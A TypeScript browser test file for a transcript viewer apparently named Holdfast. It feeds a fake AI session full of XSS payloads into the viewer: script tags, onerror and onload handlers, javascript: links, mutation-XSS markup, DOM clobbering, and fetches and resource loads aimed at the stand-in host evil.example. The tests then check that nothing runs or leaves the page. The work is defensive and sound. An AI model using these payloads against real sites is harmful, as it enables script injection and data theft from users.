// Transcripts in which every text tries to act in the browser. None of it runs, none of it leaves, and all of it can still be read.
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { because } from '../because.ts';
import { noBrowser, type ViewerStand, viewerStand, visit } from './viewer-stand.ts';

const session = 'eeeeeeee-0000-4000-8000-000000000001';
const away = 'http://evil.example';
const payloads = [
  `<script>globalThis.owned = 1; fetch('${away}/script')</script>`,
  `<img src="${away}/pixel.png" onerror="globalThis.owned = 2">`,
  `<svg onload="globalThis.owned = 3"><a xlink:href="javascript:globalThis.owned=4">x</a></svg>`,
  `[click me](javascript:globalThis.owned=5) [data](data:text/html,<script>owned=6</script>) [ok](https://docs.example/a)`,
  `![picture](${away}/markdown.png)`,
  `<iframe srcdoc="<script>parent.owned=7</script>"></iframe><object data="${away}/o"></object><embed src="${away}/e">`,
  `<style>@import url(${away}/s.css); body { background: url(${away}/b.png) }</style><link rel=stylesheet href=${away}/l.css>`,
  `<form action="${away}/f"><button formaction="javascript:globalThis.owned=8">b</button></form><base href="${away}/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.owned=9&gt;">`,
  `<a href="/api/forget" ping="${away}/ping" id="app" name="location">clobber</a><input name="createElement" autofocus onfocus="globalThis.owned=10">`,
  `<details open ontoggle="globalThis.owned=11">x</details><video src=${away}/v onerror=globalThis.owned=12></video>`,
  `<https://evil.example/autolink> <javascript:globalThis.owned=13> \u202Etxt.exe\u0000`,
  '```html\n<script>globalThis.owned = 14</script>\n```\n\n`<img src=x onerror=globalThis.owned=15>`',
  `«<img src=x onerror=globalThis.owned=16>» needle «"><script>globalThis.owned=17</script>»`,
];

/** Each payload as a prompt, an answer, a title, a tool, its input and its output. */
function hostileTranscript(): string {
  const lines: object[] = [{ type: 'summary', summary: payloads[1], leafUuid: 'x' }];
  let parentUuid: string | null = null;
  const push = (type: 'user' | 'assistant', content: unknown) => {
    const uuid = `eeeeeeee-1111-4000-8000-${String(lines.length).padStart(12, '0')}`;
    const timestamp = new Date(Date.parse('2026-03-01T10:00:00Z') + lines.length * 1000).toISOString();
    const message = { role: type, content };
    lines.push({ type, uuid, parentUuid, sessionId: session, timestamp, cwd: `/srv/${payloads[1]}`, message });
    parentUuid = uuid;
  };
  for (const [i, text] of payloads.entries()) {
    push('user', `needle ${text}`);
    push('assistant', [
      { type: 'text', text: `needle ${text}` },
      { type: 'tool_use', id: `t${i}`, name: text.slice(0, 60), input: { command: text, file_path: text } },
    ]);
    push('user', [{ type: 'tool_result', tool_use_id: `t${i}`, content: text, is_error: i % 2 === 0 }]);
  }
  return lines.map((line) => `${JSON.stringify(line)}\n`).join('');
}

describe.skipIf(noBrowser)(because('hostile transcripts', noBrowser), () => {
  let stand: ViewerStand;
  let page: Page;
  beforeAll(async () => {
    stand = await viewerStand();
    mkdirSync(path.join(stand.claude, '-srv-evil'));
    writeFileSync(path.join(stand.claude, '-srv-evil', `${session}.jsonl`), hostileTranscript());
    stand.run('ingest');
    stand.run('process');
    stand.run('remember', payloads[0] as string, '--key', 'needle');
    await stand.startWorker();
    page = await stand.page();
  });
  afterAll(() => stand?.close());

  const pages = [
    '/',
    '/search?q=needle',
    '/search?q=needle&kind=session',
    '/search?q=needle&kind=observation',
    '/search?q=needle&kind=summary',
    '/search?q=needle&kind=memory',
    `/search?q=${encodeURIComponent(payloads[1] as string)}`,
    `/sessions/${session}`,
    '/timeline',
    '/memory',
    '/memory/core%2Ffacts.md',
    '/memory/core%2Ffacts.md?view=statements',
    `/memory/${encodeURIComponent(payloads[1] as string)}`,
    `/sessions/${encodeURIComponent(payloads[1] as string)}`,
    '/projects',
    '/costs',
    '/health',
  ];

  it.each(pages)('nothing of them runs or leaves on %s', async (address) => {
    await visit(page, `${stand.origin}${address}`);
    for (const tool of await page.locator('details').all()) await tool.locator('summary').click();
    await page.waitForTimeout(100);
    expect(await page.evaluate('globalThis.owned')).toBeUndefined();
    expect(await page.evaluate('location.origin')).toBe(stand.origin);
    const active = 'main :is(script, iframe, object, embed, link, style, base, img, video, math, form [formaction])';
    expect(await page.locator(active).count()).toBe(0);
    const handlers = `[...document.querySelectorAll('main *')].flatMap((one) => one.getAttributeNames()).filter((name) => /^on|ping|srcdoc/.test(name))`;
    expect(await page.evaluate(handlers)).toEqual([]);
    const links = (await page.evaluate(
      `[...document.querySelectorAll('main a')].map((one) => one.getAttribute('href'))`,
    )) as string[];
    expect(links.filter((href) => href !== null && !/^(?:\/(?!\/)|#|https?:|mailto:)/.test(href))).toEqual([]);
    // Not even a refusal by the page's policy: it had nothing to refuse.
    expect(stand.troubles).toEqual([]);
  });

  it('the text can still be read, tags and all, and external links send no referrer', async () => {
    await page.goto(`${stand.origin}/sessions/${session}`);
    await page.getByText(`<script>globalThis.owned = 1; fetch('${away}/script')</script>`).first().waitFor();
    const out = page.locator('.markdown a[href="https://docs.example/a"]').first();
    await out.waitFor();
    expect(await out.getAttribute('rel')).toContain('noopener');
    expect(await out.getAttribute('target')).toBe('_blank');
    expect(await page.evaluate('document.title')).toContain('Holdfast');
  });

  it('even a script that got into the page would not run, and could not contact any server', async () => {
    const tried = (await page.evaluate(`(async () => {
      const results = {};
      try { document.body.innerHTML += '<img src=x onerror="globalThis.owned=99">'; results.html = 'taken'; } catch { results.html = 'refused'; }
      try { const s = document.createElement('script'); s.src = '${away}/x.js'; document.head.append(s); results.script = 'taken'; } catch { results.script = 'refused'; }
      results.fetch = await fetch('${away}/leak').then(() => 'taken', () => 'refused');
      return results;
    })()`)) as object;
    expect(tried).toEqual({ html: 'refused', script: 'refused', fetch: 'refused' });
    expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  });
});
